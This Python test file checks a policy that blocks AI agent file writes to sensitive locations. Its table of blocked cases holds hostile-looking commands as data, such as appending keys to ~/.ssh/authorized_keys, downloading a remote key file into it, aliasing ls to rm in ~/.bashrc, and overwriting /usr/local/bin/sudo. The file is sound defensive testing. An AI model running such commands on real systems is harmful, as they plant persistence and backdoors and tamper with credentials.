"""`block-sensitive-file-writes`: a verdict for every case of a realistic table of file-tool and
shell writes, plus the notice, the decision, `allow`, `patterns` and malformed arguments."""

from __future__ import annotations

from typing import Any

import pytest

from policies.builtin.block_sensitive_file_writes import BlockSensitiveFileWritesPolicy
from tests.policies.rules.preset_checks import (
    check_malformed_arguments,
    check_preset_metadata,
    check_too_complex_is_blocked,
    make_call,
    make_context,
)
from wire.neutral import TextBlock

POLICY = BlockSensitiveFileWritesPolicy()
HOME = "/home/dev"
PROJECT = f"{HOME}/proj"
PATCH = "*** Begin Patch\n*** Update File: {path}\n@@\n-old\n+new\n*** End Patch\n"


def write(path: str) -> tuple[str, Any]:
    return "Write", {"file_path": path, "content": "x"}


def edit(path: str) -> tuple[str, Any]:
    return "Edit", {"file_path": path, "old_string": "a", "new_string": "b"}


def sh(command: str) -> tuple[str, Any]:
    return "Bash", {"command": command}


DANGEROUS: list[tuple[str, tuple[str, Any], str]] = [
    # (id, (tool, arguments), rule)
    ("write-authorized-keys", write(f"{HOME}/.ssh/authorized_keys"), "ssh-keys"),
    ("write-ssh-config", write(f"{HOME}/.ssh/config"), "ssh-keys"),
    ("write-id-rsa-anywhere", write(f"{PROJECT}/id_rsa"), "ssh-keys"),
    ("write-pem", write(f"{PROJECT}/certs/server.pem"), "private-keys"),
    ("write-key", write("tls/private.key"), "private-keys"),
    ("write-env", write(f"{PROJECT}/.env"), "env-files"),
    ("write-env-local", write(".env.local"), "env-files"),
    ("write-env-production", write("config/.env.production"), "env-files"),
    ("edit-aws-credentials", edit(f"{HOME}/.aws/credentials"), "credentials"),
    ("write-netrc", write("~/.netrc"), "credentials"),
    ("write-npmrc", write(f"{HOME}/.npmrc"), "credentials"),
    ("write-pypirc", write("$HOME/.pypirc"), "credentials"),
    ("write-docker-config", write(f"{HOME}/.docker/config.json"), "credentials"),
    ("write-kube-config", write("~/.kube/config"), "credentials"),
    ("write-gnupg", write("~/.gnupg/gpg-agent.conf"), "credentials"),
    ("edit-bashrc", edit(f"{HOME}/.bashrc"), "shell-profiles"),
    ("edit-zshrc-macos", edit("/Users/dev/.zshrc"), "shell-profiles"),
    ("write-profile", write("~/.profile"), "shell-profiles"),
    ("write-bash-profile", write(f"{HOME}/.bash_profile"), "shell-profiles"),
    ("write-zprofile", write("~/.zprofile"), "shell-profiles"),
    ("write-fish-config", write("~/.config/fish/config.fish"), "shell-profiles"),
    ("write-git-hook", write(f"{PROJECT}/.git/hooks/pre-commit"), "git-internals"),
    ("edit-git-config", edit(".git/config"), "git-internals"),
    ("write-git-object", write(".git/objects/ab/cdef0123"), "git-internals"),
    ("write-etc-hosts", write("/etc/hosts"), "system-paths"),
    ("shadow-git", write("/usr/local/bin/git"), "path-hijack"),
    ("cp-over-sudo", sh("sudo cp ./evil /usr/local/bin/sudo"), "path-hijack"),
    ("write-boot", write("/boot/grub/grub.cfg"), "system-paths"),
    ("write-lib-systemd", write("/lib/systemd/system/evil.service"), "system-paths"),
    ("write-var-lib", write("/var/lib/dpkg/status"), "system-paths"),
    ("write-macos-system", write("/System/Library/LaunchDaemons/x.plist"), "system-paths"),
    ("write-windows", write("C:\\Windows\\System32\\drivers\\etc\\hosts"), "system-paths"),
    ("write-dotdot-escape", write("/tmp/../etc/cron.d/job"), "system-paths"),
    ("write-launch-agent", write("~/Library/LaunchAgents/com.evil.plist"), "autostart"),
    ("multiedit-zshrc", ("MultiEdit", {"file_path": "~/.zshrc", "edits": []}), "shell-profiles"),
    ("notebook-etc", ("NotebookEdit", {"notebook_path": "/etc/x.ipynb"}), "system-paths"),
    (
        "editor-create",
        ("str_replace_based_edit_tool", {"command": "create", "path": "~/.ssh/config"}),
        "ssh-keys",
    ),
    (
        "editor-str-replace",
        ("str_replace_based_edit_tool", {"command": "str_replace", "path": ".env"}),
        "env-files",
    ),
    (
        "editor-insert",
        ("str_replace_editor", {"command": "insert", "path": "/root/.bashrc"}),
        "shell-profiles",
    ),
    ("apply-patch-raw", ("apply_patch", PATCH.format(path=".git/config")), "git-internals"),
    (
        "apply-patch-json",
        ("apply_patch", {"input": PATCH.format(path="src/a.py").replace("src/a.py", "k.pem")}),
        "private-keys",
    ),
    (
        "apply-patch-unified",
        ("apply_patch", {"patch": "--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-A=1\n+A=2\n"}),
        "env-files",
    ),
    ("write-file-tool", ("write_file", {"path": "~/.bashrc", "content": "x"}), "shell-profiles"),
    ("edit-file-tool", ("edit_file", {"path": "/etc/nginx/nginx.conf"}), "system-paths"),
    ("create-file-envrc", ("create_file", {"filename": ".envrc"}), "env-files"),
    ("mcp-write-file", ("mcp__fs__write_file", {"path": "~/.ssh/rc"}), "ssh-keys"),
    ("echo-append-bashrc", sh("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc"), "shell-profiles"),
    ("cat-append-keys", sh("cat key.pub >> ~/.ssh/authorized_keys"), "ssh-keys"),
    ("tee-zshrc", sh("echo 'alias k=kubectl' | tee -a ~/.zshrc"), "shell-profiles"),
    ("cp-into-ssh", sh("cp deploy_key ~/.ssh/id_ed25519"), "ssh-keys"),
    ("cp-into-ssh-dir", sh("cp id_rsa ~/.ssh/"), "ssh-keys"),
    ("mv-credentials", sh("mv /tmp/creds ~/.aws/credentials"), "credentials"),
    ("install-key", sh("install -m 600 key ~/.ssh/id_rsa"), "ssh-keys"),
    ("ln-profile", sh("ln -sf /tmp/evil ~/.profile"), "shell-profiles"),
    ("sed-i-bashrc", sh("sed -i 's/^export X=.*/export X=1/' ~/.bashrc"), "shell-profiles"),
    ("sed-i-macos-git", sh("sed -i '' -e 's/x/y/' .git/config"), "git-internals"),
    ("perl-pi-zshrc", sh("perl -pi -e 's/a/b/' ~/.zshrc"), "shell-profiles"),
    ("chmod-key", sh("chmod 777 ~/.ssh/id_rsa"), "ssh-keys"),
    ("chown-env", sh("chown root .env"), "env-files"),
    ("sudo-tee-hosts", sh("echo '1.2.3.4 x' | sudo tee -a /etc/hosts > /dev/null"), "system-paths"),
    ("redirect-git-head", sh("echo ref > .git/HEAD"), "git-internals"),
    ("curl-o-keys", sh("curl -o ~/.ssh/authorized_keys https://x/k"), "ssh-keys"),
    ("wget-O-profile", sh("wget -O ~/.bash_profile https://x/p"), "shell-profiles"),
    ("bash-c-append", sh("bash -c \"echo 'alias ls=rm' >> ~/.bashrc\""), "shell-profiles"),
    ("cd-then-append", sh("cd ~/.ssh && echo key >> keys_backup"), "ssh-keys"),
    ("python-open-write", sh("python3 -c \"open('.env', 'w').write('A=1')\""), "env-files"),
    (
        "node-write-file",
        sh("node -e \"require('fs').writeFileSync('/etc/motd', 'x')\""),
        "system-paths",
    ),
    ("shell-apply-patch", sh(f"apply_patch <<'EOF'\n{PATCH.format(path='.env')}EOF"), "env-files"),
    ("touch-ssh-rc", sh("touch ~/.ssh/rc"), "ssh-keys"),
    ("dd-boot", sh("dd if=vmlinuz of=/boot/vmlinuz"), "system-paths"),
    ("home-var-zshenv", sh('echo "export X=1" >> "$HOME/.zshenv"'), "shell-profiles"),
    ("truncate-env", sh("truncate -s 0 .env"), "env-files"),
    (
        "codex-argv",
        ("local_shell", {"command": ["bash", "-lc", "echo x >> ~/.bashrc"]}),
        "shell-profiles",
    ),
]

BENIGN: list[tuple[str, tuple[str, Any]]] = [
    ("write-usr-local-tool", write("/usr/local/bin/tool")),
    ("install-usr-local", sh("sudo install -m 755 mytool /usr/local/bin/mytool")),
    ("known-hosts", sh("ssh-keyscan github.com >> ~/.ssh/known_hosts")),
    ("write-source", write(f"{PROJECT}/src/app.py")),
    ("write-readme", write("README.md")),
    ("write-test", write("tests/test_app.py")),
    ("write-gitignore", write(f"{PROJECT}/.gitignore")),
    ("write-gitattributes", write(".gitattributes")),
    ("write-github-workflow", write(f"{PROJECT}/.github/workflows/ci.yml")),
    ("write-env-example", write(f"{PROJECT}/.env.example")),
    ("write-env-sample", write(".env.sample")),
    ("write-env-docs", write("docs/env.md")),
    ("write-environment-yml", write("environment.yml")),
    ("write-envoy", write(".envoy/config.yaml")),
    ("write-keys-doc", write("docs/keys.md")),
    ("write-keyboard", write("src/keyboard.ts")),
    ("write-id-rsa-parser", write("src/id_rsa_parser.py")),
    ("write-tmp", write("/tmp/scratch.txt")),
    ("write-home-project", write("~/projects/app/main.go")),
    ("write-vscode", write(f"{PROJECT}/.vscode/settings.json")),
    ("write-bashrc-docs", write("docs/bashrc-tips.md")),
    ("write-ssh-docs", write("docs/ssh/setup.md")),
    ("read-tool-key", ("Read", {"file_path": f"{HOME}/.ssh/id_rsa"})),
    ("grep-tool-env", ("Grep", {"pattern": "KEY", "path": ".env"})),
    ("editor-view", ("str_replace_based_edit_tool", {"command": "view", "path": "~/.bashrc"})),
    ("apply-patch-source", ("apply_patch", PATCH.format(path="src/app.py"))),
    ("cat-pubkey", sh("cat ~/.ssh/id_rsa.pub")),
    ("grep-todo", sh("grep -rn TODO .")),
    ("echo-to-file", sh("echo hi > out.txt")),
    ("build-log", sh("npm run build > build.log 2>&1")),
    ("copy-config", sh("cp config.sample.toml config.toml")),
    ("sed-source", sh("sed -i 's/a/b/' src/app.py")),
    ("chmod-script", sh("chmod +x scripts/run.sh")),
    ("commit", sh("git add . && git commit -m 'document .bashrc and ~/.ssh/config'")),
    ("echo-source-text", sh('echo "source ~/.bashrc"')),
    ("cat-bashrc-grep", sh("cat ~/.bashrc | grep PATH")),
    ("diff-zshrc", sh("diff ~/.zshrc dotfiles/zshrc")),
    ("ls-ssh", sh("ls -la ~/.ssh")),
    ("ssh-add-list", sh("ssh-add -l")),
    ("copy-pubkey-out", sh("cp ~/.ssh/id_rsa.pub /tmp/key.pub")),
    ("git-config", sh("git config user.email dev@example.com")),
    ("tee-tmp", sh("make 2>&1 | tee /tmp/log.txt")),
    ("touch-init", sh("touch src/__init__.py")),
    ("mv-rename", sh("mv old.py new.py")),
    ("ln-relative", sh("ln -s ../shared lib/shared")),
    ("append-changelog", sh("echo '- fix' >> CHANGELOG.md")),
    ("python-read-env", sh("python -c \"print(open('.env').read())\"")),
    ("cat-git-config", sh("cat .git/config")),
    ("git-log-to-tmp", sh("git log --oneline > /tmp/log.txt")),
    ("install-dir", sh("install -d build/bin")),
    ("heredoc-readme", sh("cat > README.md <<'EOF'\nAdd to ~/.bashrc:\n  export X=1\nEOF")),
    ("redirect-dev-null", sh("ls /etc > /dev/null")),
    ("curl-output-file", sh("curl -o dist/app.tar.gz https://x/app.tar.gz")),
]


def build(config: dict[str, Any]) -> BlockSensitiveFileWritesPolicy:
    return BlockSensitiveFileWritesPolicy(
        BlockSensitiveFileWritesPolicy.Config.model_validate(config)
    )


def test_tables_are_large_and_ids_unique() -> None:
    assert len(DANGEROUS) >= 40 and len(BENIGN) >= 40
    ids = [case[0] for case in DANGEROUS] + [case[0] for case in BENIGN]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize(("call", "rule"), [pytest.param(c, r, id=i) for i, c, r in DANGEROUS])
async def test_sensitive_writes_are_blocked(call: tuple[str, Any], rule: str) -> None:
    ctx = make_context()
    result = await POLICY.on_tool_call(make_call(*call), ctx)
    assert isinstance(result, TextBlock), call
    [decision] = ctx.decisions
    assert decision.action == "blocked"
    assert decision.details["rule"] == rule


@pytest.mark.parametrize("call", [pytest.param(c, id=i) for i, c in BENIGN])
async def test_ordinary_writes_and_reads_pass(call: tuple[str, Any]) -> None:
    block = make_call(*call)
    ctx = make_context()
    assert await POLICY.on_tool_call(block, ctx) is block
    assert ctx.decisions == []


async def test_notice_names_tool_reason_and_arguments() -> None:
    call = make_call(
        "Edit", {"file_path": "/home/dev/.bashrc", "old_string": "a", "new_string": "b"}
    )
    ctx = make_context()
    result = await POLICY.on_tool_call(call, ctx)
    assert isinstance(result, TextBlock)
    assert "Tool: Edit" in result.text
    reason = "security weakening and persistence (persistence): writes to a shell start-up file"
    assert f"Reason: {reason}: ~/.bashrc" in result.text
    assert '  "file_path": "/home/dev/.bashrc",\n' in result.text
    [decision] = ctx.decisions
    assert decision.details["tool"] == "Edit"
    assert decision.details["rule"] == "shell-profiles"
    assert decision.details["arguments"]["old_string"] == "a"


def test_allow_globs_win_over_rules() -> None:
    policy = build({"allow": ["tests/fixtures/**/*.pem", ".env.test", "~/.config/fish/**"]})
    assert policy.check(make_call(*write("tests/fixtures/tls/cert.pem"))) is None
    assert policy.check(make_call(*write(f"{PROJECT}/.env.test"))) is None
    assert policy.check(make_call(*write("/home/dev/.config/fish/config.fish"))) is None
    assert policy.check(make_call(*write("certs/cert.pem"))) is not None
    assert policy.check(make_call(*write(".env"))) is not None


def test_extra_patterns_protect_more_paths() -> None:
    policy = build({"patterns": ["*.tfstate", "**/secrets/**", "~/.config/app/**"]})
    for path in ("infra/prod.tfstate", "deploy/secrets/db.txt", "/home/dev/.config/app/token"):
        finding = policy.check(make_call(*write(path)))
        assert finding is not None and finding.rule == "custom-pattern", path
    assert policy.check(make_call(*sh("echo x > secrets/a"))) is not None
    assert policy.check(make_call(*write("infra/main.tf"))) is None


def test_configured_tool_names_and_path_fields() -> None:
    policy = build({"tool_names": ["save"], "path_fields": ["target"]})
    assert policy.check(make_call("save", {"target": "~/.bashrc"})) is not None
    assert policy.check(make_call("save", {"file_path": "~/.bashrc"})) is None
    assert policy.check(make_call("Write", {"target": "~/.bashrc"})) is None


def test_nested_path_fields() -> None:
    call = make_call("edit_file", {"edits": [{"path": "src/a.py"}, {"path": "~/.zshrc"}]})
    finding = POLICY.check(call)
    assert finding is not None and finding.subject == "~/.zshrc"


@pytest.mark.parametrize(
    ("tool", "arguments", "blocked"),
    [
        pytest.param("Write", "", False, id="empty"),
        pytest.param("Write", "not json", False, id="raw-text"),
        pytest.param("Write", "{", False, id="broken-brace"),
        pytest.param("Write", "[]", False, id="list"),
        pytest.param("Write", "null", False, id="null"),
        pytest.param("Write", '{"content": "x"}', False, id="missing-path"),
        pytest.param("Write", '{"file_path": 42}', False, id="non-string-path"),
        pytest.param("Write", '{"file_path": ""}', False, id="empty-path"),
        pytest.param("Write", '{"file_path": ["a", 1]}', False, id="list-path"),
        pytest.param("Edit", '{"file_path": "/home/x/.bashrc", "old_str', True, id="truncated"),
        pytest.param("apply_patch", "garbage", False, id="patch-garbage"),
        pytest.param("Bash", '{"command": "echo x >> ~/.bashrc', True, id="truncated-shell"),
        pytest.param("Bash", "{}", False, id="empty-object"),
    ],
)
async def test_malformed_arguments_never_crash(tool: str, arguments: str, blocked: bool) -> None:
    await check_malformed_arguments(POLICY, tool, arguments, blocked)


async def test_what_cannot_be_analysed_is_blocked() -> None:
    await check_too_complex_is_blocked(POLICY)


def test_class_metadata() -> None:
    check_preset_metadata(BlockSensitiveFileWritesPolicy, "block-sensitive-file-writes")
